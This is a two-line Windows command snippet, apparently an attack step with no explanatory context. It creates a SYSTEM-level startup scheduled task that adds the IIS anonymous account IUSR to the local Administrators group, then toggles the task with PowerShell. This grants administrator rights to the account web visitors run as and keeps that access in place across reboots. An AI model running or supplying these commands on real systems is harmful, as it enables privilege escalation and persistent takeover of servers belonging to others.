schtasks /create /tn x /ru SYSTEM /sc onstart /tr "net localgroup Administrators IUSR /add"
powershell -Command "Disable-ScheduledTask -TaskName x; Enable-ScheduledTask -TaskName x"
